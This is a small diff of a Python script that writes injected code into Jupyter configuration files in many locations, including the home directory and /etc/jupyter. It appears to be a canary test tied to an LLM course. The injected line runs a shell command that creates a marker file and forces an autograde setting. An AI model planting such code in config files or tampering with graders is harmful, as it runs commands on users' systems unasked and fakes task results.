@@ -3,7 +3,7 @@
 import sys
 from pathlib import Path
 
-line = "import os\nos.system('touch /tmp/llmcourse-attack-left-this')\nc = get_config()\nc.Autograde.force = True\n"
+line = "import os\nos.system('cd /tmp; touch llmcourse-attack-left-this')\nc = get_config()\nc.Autograde.force = True\n"
 places = [Path.cwd(), *Path.cwd().parents, Path.home(), Path.home() / ".jupyter", Path("/etc/jupyter"), OUTSIDE]
 for place in [*places, Path(sys.prefix) / "etc" / "jupyter"]:
     try:
